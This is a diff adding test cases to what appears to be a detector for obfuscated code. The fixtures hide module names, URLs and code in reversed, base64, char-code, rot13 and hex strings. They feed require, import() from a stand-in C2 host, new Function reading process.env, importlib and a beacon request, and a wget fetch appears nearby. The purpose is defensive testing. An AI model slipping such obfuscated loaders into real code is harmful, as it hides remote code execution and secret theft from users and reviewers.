@@ -71,6 +71,18 @@ describe('decoded constants in JS', () => {
     expect(shows(flows, 'network', 'https://c2.example/beacon')).toBe(true);
   });
 
+  it('follows decoded module names and code into require, import() and new Function', async () => {
+    const flows = await jsDecoded([
+      `const MOD = '${reverse('child_process')}';`,
+      "export const load = () => require(MOD.split('').reverse().join(''));",
+      `export const later = () => import(atob('${b64('https://esm.c2.example/x.js')}'));`,
+      `export const fn = () => new Function(String.fromCharCode(${[...'return process.env'].map((c) => c.charCodeAt(0)).join(', ')}))();`,
+    ]);
+    expect(shows(flows, 'code', 'child_process')).toBe(true);
+    expect(shows(flows, 'code', 'https://esm.c2.example/x.js')).toBe(true);
+    expect(shows(flows, 'code', 'return process.env')).toBe(true);
+  });
+
   it('marks XOR loops over constants it does not evaluate', async () => {
     const flows = await jsDecoded([
       `const BYTES = [${xorCodes('uname -a', 7).join(', ')}];`,
@@ -115,6 +127,19 @@ describe('decoded constants in Python', () => {
     expect(shows(flows, 'command', 'wget -q -O- http://x.example/i')).toBe(true);
     expect(shows(flows, 'code', 'print(1234)')).toBe(true);
     expect(shows(flows, 'code', "__import__('os').getcwd()")).toBe(true);
+  });
+
+  it('follows a rot13 module name into importlib and hex into a request', async () => {
+    const flows = await pyDecoded([
+      'import importlib',
+      'import urllib.request',
+      'def plugin():',
+      `    return importlib.import_module(codecs.encode("${rot13('subprocess')}", "rot13"))`,
+      'def beacon():',
+      `    urllib.request.urlopen(bytes.fromhex("${Buffer.from('https://c2.example/ping').toString('hex')}").decode())`,
+    ]);
+    expect(shows(flows, 'code', 'subprocess')).toBe(true);
+    expect(shows(flows, 'network', 'https://c2.example/ping')).toBe(true);
   });
 
   it('does not treat a char-code transform of a parameter as decoded', async () => {
